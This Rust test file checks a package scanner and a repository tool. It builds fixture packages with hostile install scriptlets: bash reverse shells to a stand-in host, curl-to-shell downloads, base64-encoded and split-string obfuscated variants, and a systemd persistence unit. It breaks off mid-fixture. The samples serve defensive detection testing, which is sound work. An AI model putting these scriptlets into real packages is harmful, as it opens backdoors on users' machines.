//! `mc-scan` end to end: packages made by real makepkg (through mc-build, as an unprivileged
//! user), a real clamd started here with signatures written here (there are no official ones
//! offline), clamscan, and mc-repo refusing what mc-scan flagged.

use std::{
    fs,
    io::{Read, Write},
    os::unix::net::{UnixListener, UnixStream},
    path::{Path, PathBuf},
    process::{Child, Command, Stdio},
    time::{Duration, Instant},
};

use pipeline_tests::{
    Mirror, Run, bin, lines,
    makepkg::{Pkg, Set, test_user},
    repo, require, run,
};
use serde_json::Value;

/// The EICAR test string: every anti-virus engine's agreed harmless test.
const EICAR: &str = r"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";
/// Its MD5, for a ClamAV `.hdb` signature (the value every AV vendor publishes).
const EICAR_MD5: &str = "44d88612fea8a8f36de82e1278abb02f";

/// A real clamd on a socket in a temporary folder, with a database holding only signatures
/// for EICAR: `.ndb` (a body pattern) and `.hdb` (the file's MD5), written here.
struct Clamd {
    dir: tempfile::TempDir,
    child: Child,
}

impl Clamd {
    fn start() -> Self {
        require("clamd", "clamav-daemon");
        let dir = tempfile::tempdir().expect("tempdir");
        let db = dir.path().join("db");
        fs::create_dir(&db).expect("db folder");
        let hex: String = EICAR.bytes().map(|b| format!("{b:02x}")).collect();
        fs::write(db.join("test.ndb"), format!("Test.EICAR.ndb:0:*:{hex}\n")).expect("ndb");
        fs::write(
            db.join("test.hdb"),
            format!("{EICAR_MD5}:{}:Test.EICAR.hdb\n", EICAR.len()),
        )
        .expect("hdb");
        let config = dir.path().join("clamd.conf");
        fs::write(
            &config,
            format!(
                "Foreground yes\nLocalSocket {0}/clamd.sock\nDatabaseDirectory {0}/db\n\
                 LogFile {0}/clamd.log\nTemporaryDirectory {0}\n",
                dir.path().display()
            ),
        )
        .expect("clamd.conf");
        let child = Command::new("clamd")
            .arg("-c")
            .arg(&config)
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("clamd starts");
        let clamd = Self { dir, child };
        clamd.wait_until_it_answers();
        clamd
    }

    fn socket(&self) -> PathBuf {
        self.dir.path().join("clamd.sock")
    }

    fn database(&self) -> PathBuf {
        self.dir.path().join("db")
    }

    fn socket_arg(&self) -> String {
        self.socket().display().to_string()
    }

    /// Waits for `PONG`; clamd with two signatures loads in about a second.
    fn wait_until_it_answers(&self) {
        let deadline = Instant::now() + Duration::from_secs(120);
        while Instant::now() < deadline {
            if let Ok(mut stream) = UnixStream::connect(self.socket()) {
                let mut reply = String::new();
                let answered = stream.write_all(b"zPING\0").is_ok()
                    && stream.read_to_string(&mut reply).is_ok();
                if answered && reply.starts_with("PONG") {
                    return;
                }
            }
            std::thread::sleep(Duration::from_millis(100));
        }
        let log = fs::read_to_string(self.dir.path().join("clamd.log")).unwrap_or_default();
        panic!("clamd did not answer: {log}");
    }
}

impl Drop for Clamd {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// Builds `pkgs` with mc-build (real makepkg as the unprivileged test user); returns the
/// `package` records it printed.
fn build(set: &Set, pkgs: &[Pkg<'_>]) -> Vec<Value> {
    let folders: Vec<String> = pkgs.iter().map(|pkg| set.add(pkg)).collect();
    let user = test_user();
    let result = set.build(&["--build-user", &user, "--keep-going"], &folders, "");
    assert_eq!(result.code, 0, "{result:?}");
    let packages: Vec<Value> = result.of_type("package").into_iter().cloned().collect();
    assert_eq!(packages.len(), pkgs.len(), "{result:?}");
    packages
}

fn scan(args: &[&str], stdin: &str) -> Run {
    run(&bin("mc-scan"), args, stdin)
}

/// `(engine, check, member)` of every finding.
fn findings(run: &Run) -> Vec<(String, String, String)> {
    let text = |v: &Value| v.as_str().unwrap_or("-").to_owned();
    let mut found: Vec<_> = run
        .of_type("finding")
        .iter()
        .map(|f| (text(&f["engine"]), text(&f["check"]), text(&f["member"])))
        .collect();
    found.sort();
    found
}

fn path_of(package: &Value) -> String {
    package["path"].as_str().expect("a path").to_owned()
}

fn triple(engine: &str, check: &str, member: &str) -> (String, String, String) {
    (engine.to_owned(), check.to_owned(), member.to_owned())
}

/// EICAR, and 2 MiB of zeros beside it.
const EICAR_FILE: &str = r#"  printf '%s' 'X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*' > "$pkgdir/usr/share/eicar/eicar.com"
  head -c 2097152 /dev/zero > "$pkgdir/usr/share/eicar/zeros""#;

/// A package `eicar` holding the EICAR string in usr/share/eicar/eicar.com; its path.
fn eicar_package(set: &Set) -> String {
    build_one(
        set,
        &Pkg {
            base: "eicar",
            package: EICAR_FILE,
            ..Pkg::default()
        },
    )
}

/// Builds one package; its path.
fn build_one(set: &Set, pkg: &Pkg<'_>) -> String {
    path_of(&build(set, std::slice::from_ref(pkg))[0])
}

#[test]
fn eicar_is_found_by_yara_and_by_clamav_through_clamd_and_clamscan() {
    let clamd = Clamd::start();
    let set = Set::new();
    let path = eicar_package(&set);
    let result = scan(&["--clamd", &clamd.socket_arg(), &path], "");
    assert_eq!(result.code, 1, "an error finding fails the run: {result:?}");
    let member = "usr/share/eicar/eicar.com";
    let found = findings(&result);
    assert!(
        found.contains(&triple("yara", "eicar-test-file", member)),
        "{found:?}"
    );
    let clamav: Vec<_> = found.iter().filter(|f| f.0 == "clamav").collect();
    assert_eq!(clamav.len(), 1, "{found:?}");
    assert!(clamav[0].1.starts_with("Test.EICAR"), "{found:?}");
    assert_eq!(clamav[0].2, member);
    let finding = result.of_type("finding")[0];
    assert_eq!(finding["package"], "eicar");
    assert_eq!(finding["version"], "1.0-1");
    assert_eq!(finding["path"].as_str(), Some(path.as_str()));
    assert_eq!(finding["severity"], "error");

    // A stream limit below the zeros' size: they are not sent, and say so; EICAR is found.
    let tight = scan(
        &[
            "--clamd",
            &clamd.socket_arg(),
            "--clamd-max-stream-mib",
            "1",
            &path,
        ],
        "",
    );
    let clamav: Vec<_> = findings(&tight)
        .into_iter()
        .filter(|f| f.0 == "clamav")
        .map(|f| (f.1.split('.').next().unwrap_or_default().to_owned(), f.2))
        .collect();
    assert_eq!(
        clamav,
        [
            ("Test".to_owned(), member.to_owned()),
            (
                "clamav-not-scanned".to_owned(),
                "usr/share/eicar/zeros".to_owned()
            )
        ]
    );

    let database = clamd.database().display().to_string();
    let slow = scan(&["--clamscan", "--clamav-database", &database, &path], "");
    let found = findings(&slow);
    assert!(
        found
            .iter()
            .any(|f| f.0 == "clamav" && f.1.starts_with("Test.EICAR")),
        "{slow:?}"
    );
    assert_eq!(slow.count_or_zero("failed"), 0, "{slow:?}");
}

#[test]
fn a_reverse_shell_scriptlet_is_found_and_a_clean_package_has_no_findings() {
    let clamd = Clamd::start();
    let set = Set::new();
    let packages = build(
        &set,
        &[
            Pkg {
                base: "backdoor",
                install: "post_install() {\n  bash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n}\n",
                ..Pkg::default()
            },
            Pkg {
                base: "clean",
                install: "post_install() {\n  echo 'Read https://wiki.archlinux.org/title/Clean'\n}\n",
                package: "  install -Dm755 /dev/null \"$pkgdir/usr/bin/clean\"",
                ..Pkg::default()
            },
        ],
    );
    let paths: Vec<String> = packages.iter().map(path_of).collect();
    let socket = clamd.socket_arg();
    let mut args = vec!["--clamd", socket.as_str()];
    args.extend(paths.iter().map(String::as_str));
    let result = scan(&args, "");
    let found = findings(&result);
    assert!(
        found.contains(&triple("lint", "reverse-shell", ".INSTALL")),
        "{found:?}"
    );
    let about_clean: Vec<_> = result
        .of_type("finding")
        .into_iter()
        .filter(|f| f["package"] == "clean")
        .collect();
    assert!(about_clean.is_empty(), "{about_clean:?}");
    assert_eq!(result.count("scanned"), 2);
    assert_eq!(result.count_or_zero("failed"), 0, "{result:?}");
}

#[test]
fn setuid_files_and_bytecode_for_the_wrong_python_are_packaging_findings() {
    let set = Set::new();
    // Python 3.11's magic number (3495) under a python3.12 folder and a cpython-312 tag.
    let body = r#"  install -Dm4755 /dev/null "$pkgdir/usr/bin/helper"
  d="$pkgdir/usr/lib/python3.12/site-packages/oldpy"
  mkdir -p "$d/__pycache__"
  echo 'X = 1' > "$d/__init__.py"
  printf '\xa7\x0d\r\n\0\0\0\0\0\0\0\0\0\0\0\0' > "$d/__pycache__/__init__.cpython-312.pyc""#;
    let packages = build(
        &set,
        &[Pkg {
            base: "defects",
            depends: &["python>=3.12"],
            package: body,
            ..Pkg::default()
        }],
    );
    let path = path_of(&packages[0]);
    let result = scan(&[&path], "");
    let found = findings(&result);
    let pyc = "usr/lib/python3.12/site-packages/oldpy/__pycache__/__init__.cpython-312.pyc";
    assert_eq!(
        found,
        [
            triple("lint", "pyc-wrong-python", pyc),
            triple("lint", "setuid", "usr/bin/helper"),
        ]
    );
    assert_eq!(
        result.code, 0,
        "warnings do not fail by default: {result:?}"
    );
    let strict = scan(&["--fail-on", "warning", &path], "");
    assert_eq!(strict.code, 1, "{strict:?}");
    let quiet = scan(&["--disable", "setuid", &path], "");
    assert_eq!(findings(&quiet), [triple("lint", "pyc-wrong-python", pyc)]);

    let explained = Command::new(bin("mc-scan"))
        .args(["--explain", "setuid"])
        .output()
        .expect("runs");
    let text = String::from_utf8_lossy(&explained.stdout);
    assert!(
        explained.status.success() && text.contains("root"),
        "{text}"
    );
    let unknown = Command::new(bin("mc-scan"))
        .args(["--disable", "no-such-check", &path])
        .stdin(Stdio::null())
        .output()
        .expect("runs");
    assert_eq!(unknown.status.code(), Some(2));
}

#[test]
fn an_rpath_into_the_build_folder_and_the_build_folder_in_a_file_are_found() {
    require("cc", "gcc");
    let set = Set::new();
    let body = r#"  mkdir -p "$pkgdir/usr/bin" "$pkgdir/usr/share/where"
  printf 'int main(void) { return 0; }\n' > "$srcdir/m.c"
  cc -o "$pkgdir/usr/bin/rpathed" "$srcdir/m.c" -Wl,-rpath,"$srcdir/lib"
  echo "built in $srcdir" > "$pkgdir/usr/share/where/note""#;
    let packages = build(
        &set,
        &[Pkg {
            base: "where",
            package: body,
            ..Pkg::default()
        }],
    );
    let result = scan(&[&path_of(&packages[0])], "");
    let found = findings(&result);
    for expected in [
        triple("lint", "rpath-build-dir", "usr/bin/rpathed"),
        triple("lint", "build-dir-embedded", "usr/share/where/note"),
    ] {
        assert!(found.contains(&expected), "{expected:?} in {found:?}");
    }
    assert_eq!(result.code, 1, "an RPATH into the build folder is an error");
}

/// The package at `path` rewritten with `member`'s content replaced, as someone altering a
/// built package would: same metadata, same `.MTREE`.
fn tamper(path: &str, member: &str, content: &[u8]) -> PathBuf {
    let file = fs::File::open(path).expect("package");
    let mut tar = Vec::new();
    minicluster::compress::decompress(file)
        .and_then(|mut reader| reader.read_to_end(&mut tar))
        .expect("decompresses");
    let mut archive = tar::Archive::new(tar.as_slice());
    let mut builder = tar::Builder::new(Vec::new());
    for entry in archive.entries().expect("tar") {
        let mut entry = entry.expect("entry");
        let name = entry.path().expect("path").display().to_string();
        let mut data = Vec::new();
        entry.read_to_end(&mut data).expect("content");
        let mut header = entry.header().clone();
        if name == member {
            data = content.to_vec();
        }
        header.set_size(data.len() as u64);
        builder
            .append_data(&mut header, &name, data.as_slice())
            .expect("append");
    }
    let tar = builder.into_inner().expect("tar");
    // Uncompressed: pacman reads a plain .pkg.tar as well.
    let altered = Path::new(path).with_file_name("altered-1.0-1-any.pkg.tar");
    fs::write(&altered, tar).expect("write");
    altered
}

#[test]
fn a_package_altered_after_makepkg_disagrees_with_its_mtree() {
    let set = Set::new();
    let packages = build(
        &set,
        &[Pkg {
            base: "altered",
            ..Pkg::default()
        }],
    );
    let path = path_of(&packages[0]);
    let untouched = scan(&[&path], "");
    assert!(findings(&untouched).is_empty(), "{untouched:?}");
    let altered = tamper(
        &path,
        "usr/share/altered/data",
        b"something else entirely\n",
    );
    let result = scan(&[&altered.display().to_string()], "");
    let mismatches = result.of_type("finding");
    assert_eq!(
        findings(&result),
        [triple("lint", "mtree-mismatch", "usr/share/altered/data")]
    );
    let message = mismatches[0]["message"].as_str().unwrap_or_default();
    assert!(
        message.contains("size") && message.contains("sha256"),
        "{message}"
    );
    assert_eq!(result.code, 1, "an mtree mismatch is an error");
}

#[test]
fn the_sample_mirrors_packages_have_no_findings() {
    let clamd = Clamd::start();
    let mirror = Mirror::sample();
    let mut paths = Vec::new();
    for repo in ["core", "extra"] {
        for entry in fs::read_dir(mirror.repo_dir(repo)).expect("repo folder") {
            let path = entry.expect("entry").path();
            if path.display().to_string().contains(".pkg.tar") {
                paths.push(path.display().to_string());
            }
        }
    }
    assert_eq!(paths.len(), mirror.summary.packages);
    let mut args = vec![
        "--clamd".to_owned(),
        clamd.socket_arg(),
        "--fail-on".to_owned(),
        "info".to_owned(),
    ];
    args.extend(paths);
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let result = scan(&args, "");
    assert_eq!(result.code, 0, "{result:?}");
    assert_eq!(result.count("findings"), 0);
    assert_eq!(result.count("scanned"), mirror.summary.packages as u64);
}

#[test]
fn real_packages_from_an_arch_repository_raise_no_malware_findings() {
    let dir = pipeline_tests::realdata().join("packages");
    let mut paths = Vec::new();
    let mut folders = vec![dir.clone()];
    while let Some(folder) = folders.pop() {
        for entry in fs::read_dir(&folder).expect("realdata packages") {
            let path = entry.expect("entry").path();
            let name = path.display().to_string();
            if path.is_dir() {
                folders.push(path);
            } else if name.contains(".pkg.tar") && !name.ends_with(".sig") {
                paths.push(name);
            }
        }
    }
    assert!(paths.len() >= 10, "few real packages in {}", dir.display());
    let args: Vec<&str> = paths.iter().map(String::as_str).collect();
    let result = scan(&args, "");
    assert_eq!(result.count("scanned"), paths.len() as u64);
    assert_eq!(result.count_or_zero("failed"), 0, "{result:?}");
    // Real packages do embed their build folder (__FILE__ in binaries): a true warning. But
    // nothing here is malware or broken.
    let serious: Vec<_> = result
        .of_type("finding")
        .into_iter()
        .filter(|f| f["engine"] == "yara" || f["severity"] == "error")
        .collect();
    assert!(serious.is_empty(), "{serious:?}");
}

/// A zstd package holding `.PKGINFO`, then a member whose header declares `size` bytes and
/// which has none.
fn huge_member_package(size: u64) -> Vec<u8> {
    // Headers by hand: tar::Builder would end the archive before the lying member.
    let header = |path: &str, size: u64| {
        let mut header = tar::Header::new_gnu();
        header.set_path(path).expect("path");
        header.set_size(size);
        header.set_mode(0o644);
        header.set_cksum();
        header.as_bytes().to_vec()
    };
    let pkginfo = b"pkgname = huge\npkgver = 1-1\n";
    let mut tar = header(".PKGINFO", pkginfo.len() as u64);
    tar.extend_from_slice(pkginfo);
    tar.resize(1024, 0);
    tar.extend(header("usr/share/huge/blob", size));
    tar.extend_from_slice(&[0; 4096]);
    zstd::encode_all(tar.as_slice(), 3).expect("zstd")
}

#[test]
fn corrupt_truncated_and_absurd_packages_are_error_records_and_the_rest_goes_on() {
    let mirror = Mirror::sample();
    let dir = tempfile::tempdir().expect("tempdir");
    let good = fs::read_dir(mirror.repo_dir("core"))
        .expect("repo")
        .map(|e| e.expect("entry").path())
        .find(|p| p.display().to_string().ends_with(".pkg.tar.zst"))
        .expect("a zstd package");
    let bytes = fs::read(&good).expect("package");
    let write = |name: &str, data: &[u8]| {
        let path = dir.path().join(name);
        fs::write(&path, data).expect("write");
        path.display().to_string()
    };
    let truncated = write("truncated.pkg.tar.zst", &bytes[..bytes.len() / 2]);
    let corrupt = write("corrupt.pkg.tar.zst", b"\x28\xb5\x2f\xfdnot zstd at all");
    let huge = write("huge.pkg.tar.zst", &huge_member_package(1 << 40));
    let good = good.display().to_string();
    let stdin = [
        format!(r#"{{"type":"package","name":"t","version":"1","path":"{truncated}"}}"#),
        "not json".to_owned(),
        format!(r#"{{"type":"package","name":"c","version":"1","path":"{corrupt}"}}"#),
        r#"{"type":"package","name":"remote","version":"1","url":"https://x.invalid/p"}"#
            .to_owned(),
        format!(r#"{{"type":"package","name":"h","version":"1","path":"{huge}"}}"#),
        r#"{"type":"appliance","name":"passes through"}"#.to_owned(),
        format!(r#"{{"type":"package","name":"g","version":"1","path":"{good}"}}"#),
    ]
    .join("\n");
    let result = scan(&[], &stdin);
    assert_eq!(result.code, 1, "{result:?}");
    assert_eq!(
        result.error_kinds(),
        [
            "bad_input",
            "corrupt_package",
            "corrupt_package",
            "member_too_large",
            "not_local"
        ]
    );
    assert_eq!(result.count("scanned"), 4, "{result:?}");
    assert_eq!(
        result.of_type("package").len(),
        5,
        "every package record is forwarded"
    );
    assert_eq!(
        result.of_type("appliance").len(),
        1,
        "unknown records are forwarded"
    );
    assert_eq!(result.count("findings"), 0, "{result:?}");
}

/// A socket that accepts connections and never answers: a clamd that hangs.
fn silent_clamd(dir: &Path) -> PathBuf {
    let socket = dir.join("silent.sock");
    let listener = UnixListener::bind(&socket).expect("bind");
    std::thread::spawn(move || {
        let mut held = Vec::new();
        for stream in listener.incoming().flatten() {
            held.push(stream);
        }
    });
    socket
}

#[test]
fn clamd_down_or_silent_is_an_error_per_package_and_yara_still_runs() {
    let dir = tempfile::tempdir().expect("tempdir");
    let set = Set::new();
    let path = eicar_package(&set);
    let down = dir.path().join("nobody-here.sock").display().to_string();
    let result = scan(&["--clamd", &down, &path], "");
    assert_eq!(result.error_kinds(), ["clamd_unreachable"], "{result:?}");
    assert!(findings(&result).contains(&triple(
        "yara",
        "eicar-test-file",
        "usr/share/eicar/eicar.com"
    )));
    assert_eq!(result.code, 1);

    let silent = silent_clamd(dir.path()).display().to_string();
    let result = scan(&["--clamd", &silent, "--timeout", "1", &path, &path], "");
    assert_eq!(result.error_kinds(), ["clamd_timeout"], "{result:?}");
    let message = result.of_type("error")[0]["message"]
        .as_str()
        .unwrap_or_default();
    assert!(message.contains("did not answer within 1 s"), "{message}");
}

#[test]
fn build_scan_repo_publishes_what_passed_and_refuses_what_did_not() {
    let clamd = Clamd::start();
    let set = Set::new();
    let folders: Vec<String> = [
        Pkg {
            base: "fine",
            ..Pkg::default()
        },
        Pkg {
            base: "eicar",
            package: EICAR_FILE,
            ..Pkg::default()
        },
    ]
    .iter()
    .map(|pkg| set.add(pkg))
    .collect();
    let user = test_user();
    let built = set.build(&["--build-user", &user], &folders, "");
    assert_eq!(built.code, 0, "{built:?}");
    let scanned = scan(
        &["--clamd", &clamd.socket_arg()],
        &lines(&built.records.iter().collect::<Vec<_>>()),
    );
    // Forwarded unchanged, each package after its findings.
    assert_eq!(scanned.of_type("build").len(), 2);
    assert_eq!(
        scanned.count("scanned"),
        2,
        "each package once: {scanned:?}"
    );
    let position = |f: &dyn Fn(&Value) -> bool| scanned.records.iter().position(f);
    let eicar_package = position(&|r| r["type"] == "package" && r["name"] == "eicar");
    let eicar_finding = position(&|r| r["type"] == "finding" && r["package"] == "eicar");
    assert!(eicar_finding < eicar_package, "{scanned:?}");
    let target = tempfile::tempdir().expect("tempdir");
    let db = target.path().join("safe.db.tar.zst").display().to_string();
    let stream = lines(&scanned.records.iter().collect::<Vec<_>>());
    let published = add_refusing_one(&db, "error", &stream);
    let added: Vec<_> = published
        .of_type("change")
        .iter()
        .map(|c| c["name"].as_str().unwrap_or_default().to_owned())
        .collect();
    assert_eq!(added, ["fine"]);
    assert_eq!(published.code, 1);
    let listed = repo(&["list", "--repo", &db], "");
    assert_eq!(listed.of_type("package").len(), 1);
}

/// `mc-repo add --refuse-findings THRESHOLD` into `db` from `stream`, which refuses one package.
fn add_refusing_one(db: &str, threshold: &str, stream: &str) -> Run {
    let published = repo(
        &["add", "--repo", db, "--refuse-findings", threshold],
        stream,
    );
    assert_eq!(
        published.error_kinds_of("mc-repo"),
        ["refused_findings"],
        "{published:?}"
    );
    published
}

#[test]
fn mc_repo_refuses_by_path_or_by_name_and_version_at_or_above_the_threshold() {
    let mirror = Mirror::sample();
    let mut packages: Vec<PathBuf> = fs::read_dir(mirror.repo_dir("core"))
        .expect("repo")
        .map(|e| e.expect("entry").path())
        .filter(|p| p.display().to_string().contains(".pkg.tar."))
        .collect();
    packages.sort();
    let (first, second, third) = (&packages[0], &packages[1], &packages[2]);
    let record = |name: &str, path: &Path| {
        format!(
            r#"{{"type":"package","name":"{name}","version":"9-1","path":"{}"}}"#,
            path.display()
        )
    };
    let stdin = [
        format!(
            r#"{{"type":"finding","check":"setuid","severity":"warning","path":"{}"}}"#,
            first.display()
        ),
        r#"{"type":"finding","check":"reverse-shell","severity":"error","package":"by-name","version":"9-1"}"#
            .to_owned(),
        r#"{"type":"finding","check":"x","severity":"error","package":"by-name","version":"8-1"}"#
            .to_owned(),
        record("by-path", first),
        record("by-name", second),
        record("other", third),
    ]
    .join("\n");
    let dir = tempfile::tempdir().expect("tempdir");
    let db = |name: &str| {
        dir.path()
            .join(name)
            .join("r.db.tar.zst")
            .display()
            .to_string()
    };
    let strict = repo(
        &[
            "add",
            "--repo",
            &db("strict"),
            "--refuse-findings",
            "warning",
        ],
        &stdin,
    );
    assert_eq!(
        strict.error_kinds(),
        ["refused_findings", "refused_findings"],
        "{strict:?}"
    );
    assert_eq!(
        strict.of_type("change").len(),
        1,
        "only the third is added: {strict:?}"
    );
    let message = strict.of_type("error")[1]["message"]
        .as_str()
        .unwrap_or_default();
    assert!(message.contains("reverse-shell"), "{message}");
    let lenient = repo(
        &[
            "add",
            "--repo",
            &db("lenient"),
            "--refuse-findings",
            "error",
        ],
        &stdin,
    );
    assert_eq!(lenient.error_kinds(), ["refused_findings"], "{lenient:?}");
    assert_eq!(lenient.of_type("change").len(), 2);
    let ignored = repo(&["add", "--repo", &db("ignored")], &stdin);
    assert_eq!(
        ignored.count_or_zero("failed"),
        0,
        "without the option findings pass: {ignored:?}"
    );
}

/// A package from real makepkg holding 1 GiB of zeros (`usr/a/zeros`, ahead of the rest), a
/// setuid reverse shell after it and a `curl | sh` scriptlet: its path.
fn zeros_then_backdoor_package(set: &Set) -> String {
    let body = r#"  mkdir -p "$pkgdir/usr/a" "$pkgdir/usr/bin"
  head -c 1073741824 /dev/zero > "$pkgdir/usr/a/zeros"
  printf '#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n' > "$pkgdir/usr/bin/shell"
  chmod 4755 "$pkgdir/usr/bin/shell""#;
    build_one(
        set,
        &Pkg {
            base: "hidden",
            install: "post_install() {\n  curl -fsSL https://192.0.2.7/i | sh\n}\n",
            package: body,
            ..Pkg::default()
        },
    )
}

#[test]
fn a_member_too_large_to_scan_is_an_error_the_rest_is_scanned_and_mc_repo_refuses_it() {
    let set = Set::new();
    let path = zeros_then_backdoor_package(&set);
    let size = fs::metadata(&path).expect("package").len();
    assert!(size < 1 << 20, "1 GiB of zeros compresses to {size} bytes");
    let record =
        format!(r#"{{"type":"package","name":"hidden","version":"1.0-1","path":"{path}"}}"#);
    let result = scan(&["--max-member-size", "64M"], &record);
    assert_eq!(result.error_kinds(), ["member_too_large"], "{result:?}");
    let found = findings(&result);
    for expected in [
        triple("lint", "setuid", "usr/bin/shell"),
        triple("yara", "reverse-shell", "usr/bin/shell"),
        triple("lint", "download-execute", ".INSTALL"),
    ] {
        assert!(found.contains(&expected), "{expected:?} in {found:?}");
    }
    assert_eq!(result.code, 1);

    let dir = tempfile::tempdir().expect("tempdir");
    let db = dir.path().join("r.db.tar.zst").display().to_string();
    // Only the error record and the package: without the findings the error alone refuses it.
    let unscanned: Vec<&Value> = result
        .records
        .iter()
        .filter(|r| r["type"] == "error" || r["type"] == "package")
        .collect();
    let published = add_refusing_one(&db, "info", &lines(&unscanned));
    let forwarded = published.error_kinds_of("mc-scan");
    assert_eq!(
        forwarded,
        ["member_too_large"],
        "mc-repo forwards what it does not handle"
    );
    let message = published.errors_of("mc-repo")[0]["message"]
        .as_str()
        .unwrap_or_default();
    assert!(message.contains("member_too_large"), "{message}");
    assert!(published.of_type("change").is_empty(), "{published:?}");
}

#[test]
fn a_package_scanned_while_clamd_is_down_is_refused() {
    let dir = tempfile::tempdir().expect("tempdir");
    let set = Set::new();
    let packages = build(
        &set,
        &[Pkg {
            base: "plain",
            ..Pkg::default()
        }],
    );
    let down = dir.path().join("nobody-here.sock").display().to_string();
    let result = scan(
        &["--clamd", &down],
        &lines(&packages.iter().collect::<Vec<_>>()),
    );
    assert_eq!(result.error_kinds(), ["clamd_unreachable"], "{result:?}");
    assert!(findings(&result).is_empty(), "{result:?}");
    let db = dir.path().join("r.db.tar.zst").display().to_string();
    let stream = lines(&result.records.iter().collect::<Vec<_>>());
    let published = add_refusing_one(&db, "error", &stream);
    assert!(published.of_type("change").is_empty(), "{published:?}");
    let trusting = repo(&["add", "--repo", &db], &stream);
    assert_eq!(
        trusting.of_type("change").len(),
        1,
        "without the option it is added"
    );
}

/// A zstd package of `.PKGINFO` and one member of `size` zeros, compressed as it is written.
fn zeros_package(path: &Path, size: u64) {
    let file = fs::File::create(path).expect("create");
    let encoder = zstd::Encoder::new(file, 1).expect("zstd").auto_finish();
    let mut builder = tar::Builder::new(encoder);
    let pkginfo = b"pkgname = zeros\npkgbase = zeros\npkgver = 1-1\n";
    let mut header = tar::Header::new_gnu();
    header.set_size(pkginfo.len() as u64);
    header.set_mode(0o644);
    builder
        .append_data(&mut header, ".PKGINFO", pkginfo.as_slice())
        .expect("append");
    let mut header = tar::Header::new_gnu();
    header.set_size(size);
    header.set_mode(0o644);
    builder
        .append_data(
            &mut header,
            "usr/share/zeros/blob",
            std::io::repeat(0).take(size),
        )
        .expect("append");
    builder.into_inner().expect("tar");
}

#[test]
fn eight_jobs_share_one_memory_budget_for_members() {
    const MEMBER_MIB: u64 = 96;
    let dir = tempfile::tempdir().expect("tempdir");
    let first = dir.path().join("zeros-0.pkg.tar.zst");
    zeros_package(&first, MEMBER_MIB << 20);
    let mut paths = vec![first.display().to_string()];
    for n in 1..8 {
        let copy = dir.path().join(format!("zeros-{n}.pkg.tar.zst"));
        fs::copy(&first, &copy).expect("copy");
        paths.push(copy.display().to_string());
    }
    let mut args = vec![
        "-v".to_owned(),
        bin("mc-scan").display().to_string(),
        "-j".to_owned(),
        "8".to_owned(),
        "--max-member-mib".to_owned(),
        "100".to_owned(),
        // YARA-X on a debug build on a loaded machine: the default 30 s per member is short.
        "--timeout".to_owned(),
        "600".to_owned(),
    ];
    args.extend(paths);
    let output = Command::new("/usr/bin/time")
        .args(&args)
        .stdin(Stdio::null())
        .output()
        .expect("/usr/bin/time runs (Debian: time)");
    let stderr = String::from_utf8_lossy(&output.stderr);
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(output.status.success(), "{stdout}\n{stderr}");
    let peak_kib: u64 = stderr
        .lines()
        .find_map(|line| {
            line.trim()
                .strip_prefix("Maximum resident set size (kbytes): ")
        })
        .and_then(|value| value.trim().parse().ok())
        .unwrap_or_else(|| panic!("no peak RSS in {stderr}"));
    assert!(stdout.contains(r#""scanned":8"#), "{stdout}");
    // Eight members held at once would be 768 MiB; the budget holds one (100 MiB) at a time,
    // besides the rules and the program (about 50 MiB).
    assert!(
        peak_kib < 300 << 10,
        "peak RSS {} MiB for 8 jobs of {MEMBER_MIB} MiB members",
        peak_kib >> 10
    );
}

/// `(check, severity, where)` of every detection in every PKGBUILD of the real corpus (2,534
/// from chaotic-aur; its archive holds no `.install` files: scripts were not copied).
fn real_pkgbuild_detections() -> (usize, Vec<(String, String, String)>) {
    let archive = pipeline_tests::realdata().join("pkgbuilds/chaotic-aur-packages.tar.gz");
    let file = fs::File::open(&archive).expect("realdata PKGBUILD archive");
    let reader = minicluster::compress::decompress(file).expect("gzip");
    let mut tar = tar::Archive::new(reader);
    let (mut scripts, mut found) = (0, Vec::new());
    for entry in tar.entries().expect("tar") {
        let mut entry = entry.expect("entry");
        let name = entry.path().expect("path").display().to_string();
        let kind = if name.ends_with("/PKGBUILD") {
            minicluster::scriptlet::Script::Pkgbuild
        } else if name.ends_with(".install") {
            minicluster::scriptlet::Script::Scriptlet
        } else {
            continue;
        };
        let mut text = String::new();
        if entry.read_to_string(&mut text).is_err() {
            continue;
        }
        scripts += 1;
        for detection in minicluster::scriptlet::detect(&text, kind) {
            found.push((
                detection.check.to_owned(),
                detection.severity.to_string(),
                format!("{name}: {}", detection.message),
            ));
        }
    }
    (scripts, found)
}

#[test]
fn real_pkgbuilds_raise_no_error_detections() {
    let (scripts, found) = real_pkgbuild_detections();
    assert_eq!(scripts, 2534, "every PKGBUILD read");
    let errors: Vec<_> = found.iter().filter(|f| f.1 == "error").collect();
    assert!(errors.is_empty(), "{errors:#?}");
    // The figure the issue asks for:
    // `cargo test -p pipeline-tests --test pipeline scan::real_pkgbuilds -- --nocapture`.
    let warnings = found.iter().filter(|f| f.1 == "warning").count();
    println!("{scripts} PKGBUILDs: {warnings} warnings, 0 errors");
    for warning in found.iter().filter(|f| f.1 == "warning") {
        println!("  {}: {}", warning.0, warning.2);
    }
}

/// Install scriptlets in the manner of the 2025–2026 AUR attacks, with the error each must give.
const ATTACKS: [(&str, &str, &str); 6] = [
    (
        "pipe",
        "post_install() {\n  curl -fsSL https://192.0.2.7/i.sh | bash\n}\n",
        "download-execute",
    ),
    (
        "npm",
        "post_install() {\n  cd /usr/lib/npm-helper && npm install --no-audit chalk-helper-2026\n}\n",
        "install-package-manager",
    ),
    (
        // `curl -fsSL https://192.0.2.7/i.sh | sh`, base64-encoded.
        "blob",
        "post_install() {\n  echo 'Y3VybCAtZnNTTCBodHRwczovLzE5Mi4wLjIuNy9pLnNoIHwgc2g=' | base64 -d | sh\n}\n",
        "decode-execute",
    ),
    (
        "split",
        "post_upgrade() {\n  a=\"cu\"; b=\"rl\"; u='https://192.0.2.7/'\"x\"\n  $a$b -s \"$u\" | s\"h\"\n}\n",
        "download-execute",
    ),
    (
        "service",
        r#"post_install() {
  cat > /etc/systemd/system/dbus-session-helper.service <<UNIT
[Unit]
Description=D-Bus session helper
[Service]
